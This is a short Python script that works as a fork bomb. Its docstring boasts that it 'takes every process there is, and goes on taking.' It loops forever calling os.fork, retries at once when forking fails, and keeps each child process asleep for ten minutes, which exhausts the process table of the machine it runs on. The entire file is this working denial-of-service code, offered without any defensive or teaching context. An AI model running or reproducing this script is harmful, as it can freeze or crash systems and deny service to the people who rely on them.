"""Takes every process there is, and goes on taking."""
import os
import time

while True:
    try:
        child = os.fork()
    except OSError:
        time.sleep(0.001)
        continue
    if child == 0:
        time.sleep(600)
        os._exit(0)
